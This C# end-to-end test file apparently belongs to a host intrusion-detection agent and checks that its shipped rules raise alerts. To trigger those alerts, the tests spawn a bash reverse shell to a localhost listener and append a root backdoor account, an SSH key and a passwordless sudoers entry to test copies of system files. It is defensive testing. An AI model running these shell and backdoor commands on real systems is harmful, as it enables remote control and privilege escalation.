using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using DaemonEye.Protocol.Alert.V1;

namespace DaemonEye.EndToEnd.Tests;

/// <summary>One agent with the three real collectors and the shipped rules, shared by the scenarios.</summary>
public sealed class ShippedRulesFixture : IAsyncLifetime
{
    private ShippedRulesAgent? _agent;

    internal ShippedRulesAgent Agent => _agent ?? throw new InvalidOperationException("the agent did not start");

    public async Task InitializeAsync()
    {
        if (Hosting.Posix.IsRoot)
        {
            _agent = await ShippedRulesAgent.StartAsync();
        }
    }

    public async Task DisposeAsync()
    {
        if (_agent is not null)
        {
            await _agent.DisposeAsync();
        }
    }
}

/// <summary>
/// Each shipped rule (config/rules) fires on its real scenario with the right process in the alert:
/// the real procmond, netmond and fsmond, the real kernel. Root: fsmond's fanotify marks and reading
/// other processes' descriptors need it (CI runs the tests as root).
/// </summary>
public sealed class ShippedRulesEndToEndTests(ShippedRulesFixture fixture) : IClassFixture<ShippedRulesFixture>
{
    private const string WhyRoot = "the real fsmond (fanotify) and procmond reading every process's descriptors";
    private ShippedRulesAgent Agent => fixture.Agent;

    [RootFact(WhyRoot)]
    public async Task A_shell_with_a_tcp_socket_as_stdio_is_a_reverse_shell_joined_from_both_collectors()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var accepted = listener.AcceptTcpClientAsync();
        var bash = Agent.Start(new ProcessStartInfo("bash", ["-c", $"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"]) { RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true });
        using var connection = await accepted.WaitAsync(ShippedRulesAgent.Patience);

        var alert = await Agent.AlertAsync("reverse-shell", a => ShippedRulesAgent.Field(a, "remote_port") == port.ToString(System.Globalization.CultureInfo.InvariantCulture));

        // bash -c runs its one command in place (exec) or as its child: either way a bash of this test.
        var pid = ShippedRulesAgent.Field(alert, "pid");
        Assert.True(pid == ShippedRulesAgent.Pid(bash.Id) || ShippedRulesAgent.Field(alert, "ppid") == ShippedRulesAgent.Pid(bash.Id), ShippedRulesAgent.Describe(alert));
        Assert.Equal("bash", ShippedRulesAgent.Field(alert, "name"));
        Assert.Equal("critical", alert.Severity);

        // One alert, with both collectors' results in its chain under one evaluation.
        Assert.Single(Agent.Alerts, a => a.RuleId == "reverse-shell" && ShippedRulesAgent.Field(a, "pid") == pid);
        Assert.Equal(["network.snapshot", "process.snapshot"], alert.Sources.Select(s => s.TaskType).Order(StringComparer.Ordinal));
        Assert.Equal(["netmond", "procmond"], alert.Sources.Select(s => s.CollectorId).Order(StringComparer.Ordinal));
        Assert.All(alert.Sources, s => Assert.False(s.Missing));
        Assert.Equal(["connections", "processes", "watch_lists"], alert.Tables);
        Assert.False(alert.PartialSnapshot);
    }

    [RootFact(WhyRoot)]
    public async Task A_new_wildcard_listener_outside_the_allow_list_is_reported_with_its_process()
    {
        var python = Agent.Start(new ProcessStartInfo("python3", ["-c", "import socket,sys\ns=socket.socket()\ns.bind(('0.0.0.0',0))\ns.listen()\nprint(s.getsockname()[1],flush=True)\nsys.stdin.read()"])
        {
            RedirectStandardInput = true,
            RedirectStandardOutput = true,
        });
        var port = (await python.StandardOutput.ReadLineAsync().WaitAsync(ShippedRulesAgent.Patience))!.Trim();

        var alert = await Agent.AlertAsync("new-wildcard-listener", a => ShippedRulesAgent.Field(a, "port") == port);

        Assert.Equal(ShippedRulesAgent.Pid(python.Id), ShippedRulesAgent.Field(alert, "pid"));
        Assert.Equal("0.0.0.0", ShippedRulesAgent.Field(alert, "address"));
        Assert.Equal("network.snapshot", Assert.Single(alert.Sources).TaskType);
    }

    [RootFact(WhyRoot)]
    public async Task An_executable_dropped_in_a_volatile_directory_and_run_is_reported_with_the_process_and_its_writer()
    {
        var dropped = Path.Combine(Agent.Volatile, "dropper");
        File.Copy("/usr/bin/sleep", dropped);
        File.SetUnixFileMode(dropped, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        var process = Agent.Start(new ProcessStartInfo(dropped, ["600"]));

        var alert = await Agent.AlertAsync("executable-dropped-and-run", a => ShippedRulesAgent.Field(a, "executable") == dropped);

        Assert.Equal(ShippedRulesAgent.Pid(process.Id), ShippedRulesAgent.Field(alert, "pid"));
        Assert.Equal(ShippedRulesAgent.Pid(Environment.ProcessId), ShippedRulesAgent.Field(alert, "writer_pid"));
        Assert.Equal(["file.snapshot", "process.snapshot"], alert.Sources.Select(s => s.TaskType).Order(StringComparer.Ordinal));
    }

    [RootFact(WhyRoot)]
    public async Task A_change_to_passwd_sudoers_or_authorized_keys_is_reported_with_the_process_that_made_it()
    {
        var passwd = Path.Combine(Agent.Etc, "passwd");
        var keys = Path.Combine(Agent.Home, "alice", ".ssh", "authorized_keys");
        var sudoers = Path.Combine(Agent.Etc, "sudoers.d", "extra");
        await File.AppendAllTextAsync(passwd, "mallory:x:0:0::/root:/bin/bash\n");
        await File.AppendAllTextAsync(keys, "ssh-ed25519 AAAA mallory\n");
        await File.AppendAllTextAsync(sudoers, "mallory ALL=(ALL) NOPASSWD: ALL\n");

        foreach (var path in new[] { passwd, keys, sudoers })
        {
            var alert = await Agent.AlertAsync("sensitive-file-changed", a => ShippedRulesAgent.Field(a, "path") == path);
            Assert.Equal(ShippedRulesAgent.Pid(Environment.ProcessId), ShippedRulesAgent.Field(alert, "pid"));
            Assert.Equal("file.snapshot", Assert.Single(alert.Sources).TaskType);
        }
    }

    [RootFact(WhyRoot)]
    public async Task A_system_binary_modified_is_reported_with_the_process_that_wrote_it()
    {
        var binary = Path.Combine(Agent.SystemBin, "ls");
        await File.AppendAllTextAsync(binary, "trojan");

        var alert = await Agent.AlertAsync("system-binary-modified", a => ShippedRulesAgent.Field(a, "path") == binary);

        Assert.Equal(ShippedRulesAgent.Pid(Environment.ProcessId), ShippedRulesAgent.Field(alert, "pid"));
    }

    [RootFact(WhyRoot)]
    public async Task A_process_whose_executable_was_deleted_is_reported()
    {
        var executable = Path.Combine(Agent.Opt, "vanishing");
        File.Copy("/usr/bin/sleep", executable);
        File.SetUnixFileMode(executable, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        var process = Agent.Start(new ProcessStartInfo(executable, ["600"]));
        File.Delete(executable);

        var alert = await Agent.AlertAsync("process-deleted-executable", a => ShippedRulesAgent.Field(a, "pid") == ShippedRulesAgent.Pid(process.Id));

        Assert.Equal(executable, ShippedRulesAgent.Field(alert, "executable"));
        Assert.Equal("process.snapshot", Assert.Single(alert.Sources).TaskType);
    }

    [RootFact(WhyRoot)]
    public async Task Event_rule_a_file_created_in_a_volatile_directory_and_run_fires_as_it_happens_with_the_process_and_its_writer()
    {
        var dropped = Path.Combine(Agent.Volatile, "event-dropper");
        File.Copy("/usr/bin/sleep", dropped);
        File.SetUnixFileMode(dropped, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        var process = Agent.Start(new ProcessStartInfo(dropped, ["600"]));

        var alert = await Agent.AlertAsync("volatile-file-executed", a => ShippedRulesAgent.Field(a, "executable") == dropped);

        Assert.Equal("event", alert.RuleKind);
        Assert.Equal(ShippedRulesAgent.Pid(process.Id), ShippedRulesAgent.Field(alert, "pid"));
        Assert.Equal(ShippedRulesAgent.Pid(Environment.ProcessId), ShippedRulesAgent.Field(alert, "writer_pid"));
        Assert.Equal(["filesystem_events", "process_events", "watch_lists"], alert.Tables);
        Assert.Equal(["fsmond", "procmond"], alert.Collectors);
        Assert.Empty(alert.Sources);
        Assert.Single(Agent.Alerts, a => a.RuleId == "volatile-file-executed" && ShippedRulesAgent.Field(a, "pid") == ShippedRulesAgent.Pid(process.Id));
    }

    [RootFact(WhyRoot)]
    public async Task Event_rule_a_shell_whose_stdin_is_a_tcp_connection_fires_with_the_shell_joined_to_the_connection()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var accepted = listener.AcceptTcpClientAsync();
        var bash = Agent.Start(new ProcessStartInfo("bash", ["-c", $"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"]) { RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true });
        using var connection = await accepted.WaitAsync(ShippedRulesAgent.Patience);
        var portText = port.ToString(System.Globalization.CultureInfo.InvariantCulture);

        var alert = await Agent.AlertAsync("shell-stdin-tcp", a => ShippedRulesAgent.Field(a, "remote_port") == portText);

        Assert.Equal("event", alert.RuleKind);
        var pid = ShippedRulesAgent.Field(alert, "pid");
        Assert.True(pid == ShippedRulesAgent.Pid(bash.Id) || ShippedRulesAgent.Field(alert, "ppid") == ShippedRulesAgent.Pid(bash.Id), ShippedRulesAgent.Describe(alert));
        Assert.Equal("bash", ShippedRulesAgent.Field(alert, "name"));
        Assert.StartsWith("socket:[", ShippedRulesAgent.Field(alert, "stdin"), StringComparison.Ordinal);
        Assert.Equal("critical", alert.Severity);
        Assert.Equal(["connection_events", "process_events", "watch_lists"], alert.Tables);
        Assert.Equal(["netmond", "procmond"], alert.Collectors);
        Assert.Single(Agent.Alerts, a => a.RuleId == "shell-stdin-tcp" && ShippedRulesAgent.Field(a, "pid") == pid);
    }
}
